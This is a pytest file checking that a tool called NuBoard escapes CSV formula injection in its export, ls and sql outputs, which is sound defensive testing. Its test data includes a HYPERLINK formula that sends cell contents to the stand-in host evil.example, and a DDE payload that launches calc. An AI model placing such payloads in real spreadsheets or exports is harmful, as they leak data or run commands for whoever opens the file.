"""CSV injection: every CSV NuBoard writes (`export`, `ls --csv`, `sql --csv`) shows a text cell that
begins with = + - @ (or a tab or CR) as text, with a leading "'", and keeps numbers numbers.

A run whose name, tags, notes, config text and scalar names are formulas is written by the real
API; the files the commands write are read back with Python's csv module, as a spreadsheet's
import would split them.
"""
from __future__ import annotations

import csv
import io

import pytest
from helpers import run_cli

from nuboard.files.csv_cells import escape_formula

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("--lr", "'--lr"),
    ("-0.5", "-0.5"), ("+3", "+3"), ("-1e-3", "-1e-3"), ("-.5", "-.5"), ("12", "12"),
    ("", ""), ("a=1", "a=1"), ("baseline", "baseline"), ("-inf", "'-inf"), ("-1,5", "'-1,5"),
])
def test_the_rule(text, written):
    assert escape_formula(text) == written


@pytest.fixture
def hostile(make_run, root):
    """One finished run of 'llm' with formulas wherever a user writes text."""
    make_run("llm", run_name=FORMULA, tags=["+cmd", "@a"], notes="-2+3",
             config={"text": "-0.5", "neg": -0.5, "formula": "=1+1"},
             points={"=x": [(0, -1.5)], "train/loss": [(0, -0.25), (1, 2.0)]})
    return root


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_export_runs_csv_escapes_text_and_keeps_numbers(hostile, tmp_path):
    out = run_cli(hostile, "export", "llm", "--runs", "-o", str(tmp_path / "runs.csv"))
    assert out.returncode == 0, out
    [row] = read_csv((tmp_path / "runs.csv").read_text())
    assert row["name"] == "'" + FORMULA and row["notes"] == "'-2+3"
    assert row["config.formula"] == "'=1+1"
    assert row["config.text"] == "-0.5" and row["config.neg"] == "-0.5"     # a number: as it is
    assert row["'=x.last"] == "-1.5" and row["train/loss.min"] == "-0.25"   # a column name escaped
    assert row["tags"] == '["+cmd", "@a"]'                                  # JSON text: '[' first
    assert not [k for k, v in row.items() if v.startswith(("=", "+", "@")) or k.startswith(("=", "+", "-", "@"))]


def test_export_history_csv_escapes_keys_and_keeps_values(hostile, tmp_path):
    out = run_cli(hostile, "export", "llm", "--history", "-o", str(tmp_path / "h.csv"))
    assert out.returncode == 0, out
    rows = read_csv((tmp_path / "h.csv").read_text())
    assert sorted((r["key"], r["step"], r["value"]) for r in rows) == \
        [("'=x", "0", "-1.5"), ("train/loss", "0", "-0.25"), ("train/loss", "1", "2")]


def test_ls_csv_escapes_text_cells(hostile):
    out = run_cli(hostile, "ls", "llm", "--csv")
    assert out.returncode == 0, out.stderr
    [row] = read_csv(out.stdout)
    assert (row["name"], row["tags"], row["notes"]) == ("'" + FORMULA, "'+cmd;@a", "'-2+3")
    assert float(row["duration_s"]) >= 0 and row["status"] == "finished"


def test_sql_csv_escapes_text_cells_and_keeps_numbers(hostile):
    out = run_cli(hostile, "sql", "SELECT name, -1.5 AS x, '-0.5' AS t FROM runs", "--project", "llm",
                  "--csv")
    assert out.returncode == 0, out.stderr
    assert read_csv(out.stdout) == [{"name": "'" + FORMULA, "x": "-1.5", "t": "-0.5"}]
